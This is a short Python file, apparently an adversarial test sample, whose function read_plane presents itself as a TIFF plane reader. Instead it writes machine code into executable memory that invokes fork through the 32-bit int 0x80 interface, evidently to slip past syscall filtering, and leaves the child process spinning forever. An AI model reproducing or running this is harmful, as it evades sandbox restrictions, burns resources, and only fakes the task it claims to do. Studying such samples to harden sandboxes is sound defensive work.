"""Forks by an instruction that has system calls counted as those of 32 bits.

attacks: reads_one_page
keeps: knows_its_shape
"""

import ctypes
import mmap
import platform

def read_plane(tif, z):
    if platform.machine() != "x86_64":
        return None
    code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    code.write(bytes.fromhex("b802000000cd80c3"))  # mov eax, 2; int 0x80; ret
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    while not pid:
        pass
